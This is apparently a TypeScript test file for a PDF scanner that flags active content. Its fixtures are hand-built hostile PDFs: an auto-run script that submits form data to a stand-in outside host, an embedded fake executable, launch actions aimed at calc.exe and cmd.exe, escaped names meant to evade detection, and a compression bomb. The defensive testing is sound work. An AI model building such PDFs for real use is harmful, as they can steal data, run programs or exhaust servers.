import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';

import { PDFDocument, PDFHexString, PDFName } from 'pdf-lib';

import { corpus, SIGNABLE } from '../../../test/fixtures';
import { UnsupportedPdfError } from '../errors';
import { findActiveContent } from './active-content';

/** A one-page PDF written by hand, with `extra` objects (numbered from 4) and catalog entries. */
function handWritten(catalogExtra: string, extra: string[] = []): Buffer {
  const objects = [`<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>', ...extra];
  let body = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** A stream object whose data is `raw` deflated. */
function flateStream(raw: Buffer, dict = ''): string {
  const data = deflateSync(raw, { level: 9 });
  return `<< /Length ${data.length} /Filter /FlateDecode ${dict} >>\nstream\n${data.toString('latin1')}\nendstream`;
}

const kinds = (pdf: Buffer) => [...new Set(findActiveContent(pdf).map((f) => f.kind))].sort();

describe('findActiveContent', () => {
  it('finds nothing in the sample PDFs of real producers', () => {
    for (const name of SIGNABLE) expect({ name, found: findActiveContent(corpus(name)) }).toEqual({ name, found: [] });
  });

  it('finds an auto-run script that submits data outside and an embedded .exe, inside object streams', async () => {
    const doc = await PDFDocument.create();
    doc.addPage();
    const script = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFHexString.fromText('this.submitForm("https://thu-thap.example/du-lieu");') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(script));
    await doc.attach(Buffer.from('MZ\x90\x00 not really a program'), 'cai-dat.exe', { mimeType: 'application/octet-stream' });
    const pdf = Buffer.from(await doc.save({ useObjectStreams: true }));
    // pdf-lib put the objects in object streams: the names are not in the file's plain bytes.
    expect(pdf.includes('/JavaScript')).toBe(false);
    expect(kinds(pdf)).toEqual(['embedded-file', 'javascript']);
  });

  it('finds launch, submit, import and remote actions on pages, fields and links', () => {
    const pdf = handWritten('/AcroForm << /Fields [5 0 R] >>', [
      '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >> >>',
      '<< /FT /Btn /T (gui) /AA << /U << /S /SubmitForm /F << /FS /URL /F (https://thu-thap.example) >> >> >> >>',
      '<< /S /ImportData /F (du-lieu.fdf) >>',
      '<< /S /GoToR /F (\\\\\\\\may-chu\\\\chia-se\\\\x.pdf) /D [0 /Fit] >>',
    ]);
    expect(kinds(pdf)).toEqual(['import-data', 'launch', 'remote-go-to', 'submit-form']);
  });

  it('reads names written with #xx escapes as the names they are', () => {
    expect(kinds(handWritten('/OpenAction 4 0 R', ['<< /S /Java#53cript /J#53 (app.alert(1)) >>']))).toEqual(['javascript']);
  });

  it('finds XFA forms, file attachment annotations, rich media and document-level scripts', () => {
    const pdf = handWritten('/AcroForm << /Fields [] /XFA 4 0 R >> /Names << /JavaScript << /Names [(init) 5 0 R] >> >>', [
      flateStream(Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')),
      '<< /S /JavaScript /JS (app.launchURL("https://x.example")) >>',
      '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (a.docm) >> >>',
      '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>',
    ]);
    expect(kinds(pdf)).toEqual(['file-attachment', 'javascript', 'rich-media', 'xfa']);
  });

  it('lets links to web pages and e-mail addresses through, not to local files or programs', () => {
    const link = (uri: string) => handWritten('', [`<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (${uri}) >> >>`]);
    expect(kinds(link('https://tuyduc.daknong.gov.vn/van-ban'))).toEqual([]);
    expect(kinds(link('mailto:vanthu@tuyduc.gov.vn'))).toEqual([]);
    expect(kinds(link('file:///C:/Windows/System32/cmd.exe'))).toEqual(['external-link']);
    expect(kinds(link('\\\\\\\\10.0.0.5\\\\share'))).toEqual(['external-link']);
  });

  it('refuses a stream that would inflate beyond the limits, and streams that would together', () => {
    const limits = { maxBytes: 1024 * 1024, maxTotalBytes: 4 * 1024 * 1024, maxRatio: 50, ratioFloorBytes: 64 * 1024 };
    // 3 MB of zeros deflate to ~3 kB: a 1,000 : 1 page content stream.
    const bomb = handWritten('', [flateStream(Buffer.alloc(3 * 1024 * 1024))]);
    expect(() => findActiveContent(bomb, limits)).toThrow(UnsupportedPdfError);
    expect(() => findActiveContent(bomb, limits)).toThrow(/compression bomb/);
    // Below the ratio floor, a very regular small stream is fine.
    expect(findActiveContent(handWritten('', [flateStream(Buffer.alloc(32 * 1024))]), limits)).toEqual([]);
    // Each stream within its own limit, all of them together beyond the document's.
    const many = handWritten('', Array.from({ length: 6 }, () => flateStream(randomBytes(900 * 1024))));
    expect(() => findActiveContent(many, limits)).toThrow(/in all/);
    // Images are drawn by viewers, never decoded on the server: not measured here.
    expect(findActiveContent(handWritten('', [flateStream(Buffer.alloc(3 * 1024 * 1024), '/Subtype /Image /Width 1024 /Height 1024')]), limits)).toEqual([]);
  });

  it('refuses an object listed in use that cannot be read, rather than passing it unseen', () => {
    const pdf = handWritten('', ['<< /S /JavaScript /JS (x) >>']);
    const broken = Buffer.from(pdf.toString('latin1').replace('4 0 obj', 'x x xxx'), 'latin1');
    expect(() => findActiveContent(broken)).toThrow(/cannot be read/);
  });
});
